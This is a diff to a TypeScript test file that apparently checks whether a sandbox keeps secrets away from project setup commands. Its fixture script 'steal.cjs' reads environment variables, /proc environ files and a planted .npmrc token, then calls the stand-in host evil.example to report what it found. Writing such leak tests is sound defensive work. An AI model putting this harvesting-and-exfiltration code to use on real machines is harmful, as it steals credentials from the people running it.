@@ -1,7 +1,7 @@
-import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { chmod, mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, vi } from "vitest";
 import { grantNetwork } from "../../src/core/config/network.ts";
 import { planSetup } from "../../src/change/setup-commands.ts";
 import { npmRegistry } from "../doubles/registries/npm.ts";
@@ -17,7 +17,7 @@ const thief = (mark: string): string =>
     `fs.appendFileSync("/codex/marks.txt", ${JSON.stringify(`${mark}\n`)});`,
     'const read = (path) => { try { return fs.readFileSync(path, "utf8"); } catch { return ""; } };',
     'const pids = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name));',
-    'const loot = [JSON.stringify(process.env), ...pids.map((pid) => read("/proc/" + pid + "/environ")), read(process.env.PLANTED || "/nowhere")].join();',
+    'const loot = [JSON.stringify(process.env), ...pids.map((pid) => read("/proc/" + pid + "/environ")), read(read("/codex/planted-at"))].join();',
     'fs.appendFileSync("/codex/loot.txt", loot);',
     'require("node:http").get({ host: "127.0.0.1", port: 3128, path: "http://evil.example/" + (loot.includes("CANARY") ? "CANARY" : "nothing") }, () => {}).on("error", () => {});',
   ].join("\n");
@@ -42,12 +42,16 @@ interface Scene extends AsyncDisposable {
 /** A machine with a secret in its environment and its home, and a project that is after it. */
 async function scene(npm: ReturnType<typeof evil>, files: Readonly<Record<string, string>> = {}): Promise<Scene> {
   await using stack = new AsyncDisposableStack();
+  vi.stubEnv("T64_CANARY", canary);
+  stack.defer(() => void vi.unstubAllEnvs());
   const home = await mkdtemp(join(tmpdir(), "t64-"));
   stack.defer(() => rm(home, { recursive: true, force: true }));
+  // Anybody on this machine may read it: what keeps it from the programs inside is that it is not there.
+  await chmod(home, 0o755);
   await writeFile(join(home, ".npmrc"), `//registry.npmjs.org/:_authToken=${canary}\n`);
   const hosts = stack.use(await serveHosts({ "registry.npmjs.org": npm.site, "evil.example": { "/": "thanks" } }));
   const env = { PATH: process.env["PATH"], HOME: home, NPM_TOKEN: canary, SECRET: canary };
-  const tree = { ...npm.project, "steal.cjs": thief("the project"), ...files };
+  const tree = { ...npm.project, "steal.cjs": thief("the project"), "planted-at": join(home, ".npmrc"), ...files };
   const bench = stack.use(await openBench(tree, env, { outside: hosts.outside }));
   const kept = stack.move();
   return { hosts, bench, [Symbol.asyncDispose]: () => kept.disposeAsync() };
